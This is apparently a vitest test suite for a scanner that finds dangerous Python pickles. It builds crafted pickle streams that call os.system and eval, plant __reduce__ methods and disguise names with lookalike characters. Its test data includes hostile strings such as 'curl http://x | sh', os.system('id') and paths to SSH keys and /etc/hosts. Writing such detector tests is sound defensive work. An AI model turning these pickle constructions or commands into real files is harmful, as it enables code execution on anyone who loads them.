import { describe, expect, it } from "vitest";
import * as p from "../../builders/pickle.js";
import { findingsOf, reportOf } from "./scan.js";

const { pickle, proto, text, stop, reduce, tuple1 } = p;

function named(module: string, name: string): p.Piece {
  return pickle(text(module), text(name), p.stackGlobal);
}

describe("the use of a callable", () => {
  it("is counted from the second on", async () => {
    const call = pickle(text("id"), tuple1, reduce);
    const [single] = await findingsOf(pickle(proto(4), named("os", "system"), call, stop));
    expect(single?.evidence).not.toHaveProperty("uses");
    const twice = pickle(named("os", "system"), p.put(0), call, p.pop, p.get(0), call);
    const [double] = await findingsOf(pickle(proto(4), twice, stop));
    expect(double?.evidence).toMatchObject({ uses: 2 });
  });

  it("is not counted where the name is only imported again", async () => {
    const call = pickle(text("id"), tuple1, reduce);
    const imported = pickle(p.global("os", "system"), p.pop, p.global("os", "system"), p.pop, p.global("os", "system"));
    const [single] = await findingsOf(pickle(proto(4), imported, call, stop));
    expect(single?.evidence).not.toHaveProperty("uses");
  });

  it("is judged again when the same callable is called with other source text", async () => {
    const calls = pickle(named("builtins", "eval"), p.put(0), text("1 + 1"), tuple1, reduce, p.pop, p.get(0));
    const second = pickle(text("__import__('os').system('id')"), tuple1, reduce);
    const told = await findingsOf(pickle(proto(4), calls, second, stop));
    expect(told.map(({ rule }) => rule)).toContain("pickle/source-code");
  });

  it("as a planted method needs something that can be called", async () => {
    const planted = (value: p.Piece) => {
      const state = pickle([0x7d], text("__reduce__"), value, p.setitem);
      return findingsOf(
        pickle(proto(4), named("sklearn.made_up", "Model"), p.emptyTuple, p.newobj, state, p.build, stop),
      );
    };
    expect((await planted(text("a text"))).map(({ rule }) => rule)).not.toContain("pickle/planted-method");
    expect((await planted(p.ext1(1))).map(({ rule }) => rule)).toContain("pickle/planted-method");
  });

  it.each([
    ["__reduce__", "critical"],
    ["append", "high"],
    ["extend", "high"],
    ["add", "high"],
  ])("as a planted %s weighs %s", async (method, severity) => {
    const state = pickle([0x7d], text(method), named("os", "system"), p.setitem);
    const object = pickle(named("sklearn.made_up", "Model"), p.emptyTuple, p.newobj);
    const told = await findingsOf(pickle(proto(4), object, state, p.build, stop));
    expect(told.find(({ rule }) => rule === "pickle/planted-method")?.severity).toBe(severity);
  });

  it("under a name in fullwidth letters is told with the name that it looks like", async () => {
    const [told] = await findingsOf(pickle(proto(4), named("builtins", "\uff45val"), text("1"), tuple1, reduce, stop));
    expect(told?.message).toContain("looks like builtins.eval");
  });

  it("is told as an import where nothing is called", async () => {
    const [walk] = await findingsOf(pickle(proto(4), named("torch.nn", "Module.__subclasses__"), stop));
    expect(walk?.message).toMatch(/^imports torch\.nn\.Module\.__subclasses__, which goes through __subclasses__$/);
    const [called] = await findingsOf(
      pickle(proto(4), named("torch.nn", "Module.__subclasses__"), p.emptyTuple, reduce, stop),
    );
    expect(called?.message).toMatch(/^loading calls /);
  });

  it("of _reconstructor is the making of its first argument", async () => {
    const made = pickle(
      named("copyreg", "_reconstructor"),
      p.mark,
      named("evil", "thing"),
      named("builtins", "object"),
      p.none,
      p.tuple,
      reduce,
    );
    const told = (await findingsOf(pickle(proto(4), made, stop))).map(({ message }) => message);
    expect(told).toContain("loading makes an object of evil.thing, which is not known");
  });

  it("is irregular when BUILD sets the state of a constant, and not of a persistent object", async () => {
    const rules = async (target: p.Piece) =>
      (await reportOf(pickle(proto(4), target, p.none, p.build, stop))).findings.map(({ rule }) => rule);
    expect(await rules(text("x"))).toContain("pickle/irregular");
    expect(await rules(pickle(text("x"), p.binpersid))).not.toContain("pickle/irregular");
  });

  it("of _unpickle_model is the loading of a .keras archive out of memory, which is scanned", async () => {
    const state = pickle(p.mark, p.bytes("PK"), p.int(0), p.none, p.tuple);
    const stream = pickle(named("io", "BytesIO"), p.emptyTuple, p.newobj, state, p.build);
    const loads = (argument: p.Piece, name = "Net._unpickle_model") =>
      findingsOf(pickle(proto(4), named("my_models", name), argument, tuple1, reduce, stop));
    expect((await loads(stream)).map(({ severity, rule }) => `${severity} ${rule}`)).toEqual([]);
    expect((await loads(text("/tmp/x.keras"))).map(({ severity }) => severity)).toContain("high");
    expect((await loads(stream, "_unpickle_model")).map(({ rule }) => rule)).toContain("pickle/unknown-call");
  });

  it("by an iterator is silent where what is called is harmless", async () => {
    const accumulate = pickle(
      named("itertools", "accumulate"),
      p.mark,
      p.pickle([0x5d]),
      named("operator", "add"),
      p.tuple,
      reduce,
    );
    expect(await findingsOf(pickle(proto(4), accumulate, stop))).toEqual([]);
    const iterate = pickle(named("builtins", "iter"), p.pickle([0x5d]), tuple1, reduce);
    expect(await findingsOf(pickle(proto(4), iterate, stop))).toEqual([]);
  });

  it("of type with one argument is silent, and makes a class with three", async () => {
    const typeOf = (...args: p.Piece[]) =>
      findingsOf(pickle(proto(4), named("builtins", "type"), p.mark, ...args, p.tuple, reduce, stop));
    expect(await typeOf(p.none)).toEqual([]);
    expect((await typeOf(text("X"), p.emptyTuple, [0x7d])).map(({ severity }) => severity)).toContain("high");
  });

  it("of attrgetter is silent for plain paths", async () => {
    const get = (path: string) =>
      findingsOf(pickle(proto(4), named("operator", "attrgetter"), text(path), tuple1, reduce, stop));
    expect(await get("weight.shape")).toEqual([]);
    expect((await get("weight.__class__")).map(({ severity }) => severity)).toEqual(["high"]);
  });

  it("through __init__ of a class is a walk, and a function called __init__ is none", async () => {
    const walks = async (name: string) =>
      (await findingsOf(pickle(proto(4), named("torch.nn", name), stop))).some(
        ({ rule }) => rule === "pickle/attribute-walk",
      );
    expect(await walks("Module.__init__")).toBe(true);
    expect(await walks("__init__")).toBe(false);
  });

  it("under a name that is no identifier is told", async () => {
    const rules = async (name: string) =>
      (await findingsOf(pickle(proto(4), named("torch.nn", name), stop))).map(({ rule }) => rule);
    expect(await rules("Mod-ule")).toContain("pickle/disguised-name");
    expect(await rules("Module")).not.toContain("pickle/disguised-name");
  });

  it("as a bound method is silent for a function of a known package alone", async () => {
    const bind = (fn: p.Piece) => {
      const maker = pickle(named("dill._dill", "_load_type"), text("MethodType"), tuple1, reduce);
      return findingsOf(pickle(proto(4), maker, p.mark, fn, p.none, p.tuple, reduce, stop));
    };
    const rules = async (fn: p.Piece) => (await bind(fn)).map(({ rule }) => rule);
    expect(await rules(named("sklearn.made_up", "predict"))).not.toContain("pickle/result-called");
    expect(await rules(named("evil", "predict"))).toContain("pickle/result-called");
    expect(await rules(text("predict"))).toContain("pickle/result-called");
  });

  it("of dill's repr of Ellipsis is silent, and of any other text is told", async () => {
    const evaluate = (value: string) =>
      findingsOf(pickle(proto(4), named("dill._dill", "_eval_repr"), text(value), tuple1, reduce, stop));
    expect(await evaluate("Ellipsis")).toEqual([]);
    expect((await evaluate("open('x')")).map(({ severity }) => severity)).toContain("critical");
  });

  it("is told by kind where a name is only imported", async () => {
    const rules = async (name: string) =>
      (await findingsOf(pickle(proto(4), named("evil", name), stop))).map(({ rule }) => rule);
    expect(await rules("predict")).toEqual(["pickle/unknown-import"]);
    expect(await rules("Model")).toEqual(["pickle/unknown-class"]);
  });

  it("whose source text the file carries names the class", async () => {
    const id = pickle(
      p.mark,
      text("module"),
      named("nets", "Net"),
      text("nets.py"),
      text("class Net: pass"),
      p.tuple,
      p.binpersid,
    );
    const told = await findingsOf(pickle(proto(4), id, stop));
    expect(told.find(({ rule }) => rule === "pickle/source-code")?.message).toContain("source text of nets.Net");
  });

  const callOf = (callable: p.Piece, ...args: p.Piece[]) =>
    findingsOf(pickle(proto(4), callable, p.mark, ...args, p.tuple, reduce, stop));

  it("that is unknown is told as Python would write it", async () => {
    const [told] = await callOf(named("evil", "work"), text("x"));
    expect(told).toMatchObject({
      severity: "medium",
      message: 'loading calls evil.work("x"), which is not known to be harmless',
    });
  });

  it("weighs more when a dangerous callable is handed to it, and no more with a harmless one", async () => {
    const harmless = await callOf(named("evil", "work"), named("collections", "OrderedDict"));
    expect(harmless.map(({ severity }) => severity)).toEqual(["medium"]);
    const dangerous = await callOf(named("evil", "work"), named("os", "system"));
    expect(dangerous.find(({ rule }) => rule === "pickle/unknown-call")?.severity).toBe("high");
  });

  it("names the opcode that made an object", async () => {
    const [told] = await findingsOf(pickle(proto(4), named("evil", "thing"), p.emptyTuple, p.newobj, stop));
    expect(told?.evidence).toMatchObject({ opcode: "NEWOBJ" });
  });

  it("of _codecs.encode is silent without an encoding", async () => {
    expect(await callOf(named("_codecs", "encode"), text("x"))).toEqual([]);
  });

  it("of getitem is told where the owner is unknown, and silent for a known one", async () => {
    const told = await callOf(named("operator", "getitem"), named("evil", "table"), p.int(1));
    expect(told.map(({ message }) => message).join()).toContain("takes an element of evil.table");
    expect(await callOf(named("operator", "getitem"), named("torch", "Tensor"), p.int(1))).toEqual([]);
  });

  it("under a name with a zero byte inside is told with the name that it looks like", async () => {
    const [told] = await callOf(named("builtins", "ev\0al"), text("1"));
    expect(told?.message).toContain("looks like builtins.eval");
  });

  it.each([
    ["evil", "work", "x", "medium"],
    ["evil", "run", "x", "high"],
    ["evil", "run_later", "x", "high"],
    ["evil", "overrun", "x", "medium"],
    ["evil", "Model.load", "x", "high"],
    ["evil", "Model", "x", "medium"],
    ["evil", "work", "curl http://x | sh", "critical"],
    ["evil", "work", "import os; os.system('id')", "critical"],
    ["evil", "work", "https://x.example", "high"],
    ["evil", "work", "/etc/hosts", "high"],
    ["evil", "work", "..\\x", "high"],
    ["evil", "work", "x/.ssh/id", "high"],
    ["evil", "work", "10.0.0.1:80", "high"],
    ["evil", "work", "10.0.0", "medium"],
    ["sklearn.made_up", "Model", "x", "low"],
    ["sklearn.made_up", "_Model", "x", "low"],
    ["sklearn.made_up", "AB", "x", "low"],
    ["sklearn.made_up", "ABC", "x", "medium"],
    ["sklearn.made_up", "work", "x", "medium"],
    ["sklearn.made_up", "save", "x", "high"],
    ["json", "made_up", "x", "high"],
  ])("that is a call of %s.%s with %j weighs %s", async (module, name, argument, severity) => {
    const told = await callOf(named(module, name), text(argument));
    expect(told.find(({ rule }) => rule === "pickle/unknown-call")?.severity).toBe(severity);
  });

  it("weighs as much when what tells it lies deep in its arguments", async () => {
    const within = (depth: number) => pickle(text("/etc/hosts"), ...Array.from({ length: depth }, () => tuple1));
    const severity = async (depth: number) => (await callOf(named("evil", "work"), within(depth)))[0]?.severity;
    expect([await severity(0), await severity(3), await severity(4)]).toEqual(["high", "high", "medium"]);
    const made = pickle(named("collections", "OrderedDict"), text("/etc/hosts"), tuple1, reduce);
    expect((await callOf(named("evil", "work"), made))[0]?.severity).toBe("high");
    const object = pickle(named("sklearn.made_up", "Model"), text("/etc/hosts"), tuple1, p.newobj);
    expect((await callOf(named("evil", "work"), object)).map(({ severity: each }) => each)).toContain("high");
  });
});
